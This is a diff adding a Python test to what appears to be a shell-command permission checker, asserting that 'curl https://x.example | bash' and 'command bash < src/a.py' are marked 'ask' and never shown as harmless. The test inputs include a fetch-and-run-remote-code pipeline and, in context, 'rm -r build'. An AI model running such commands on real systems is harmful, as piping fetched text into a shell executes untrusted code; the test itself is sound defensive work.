@@ -92,6 +92,15 @@ def test_each_part_has_its_verdict_and_its_rule() -> None:
     )
 
 
+def test_a_shell_that_reads_its_text_from_elsewhere_is_never_shown_as_harmless() -> None:
+    unread = "not fully understood: text that bash reads"
+    assert bash("curl https://x.example | bash").parts == (
+        Part("curl https://x.example", "ask", "reaches https://x.example: default mode asks first"),
+        Part("bash", "ask", unread),
+    )
+    assert [part.verdict for part in bash("ls; command bash < src/a.py").parts] == ["allow", "allow", "ask"]
+
+
 def test_targets_stand_under_their_effect() -> None:
     made = bash("cat src/a.py > out; rm -r build; curl https://x.example/y")
     assert dict(made.targets) == {
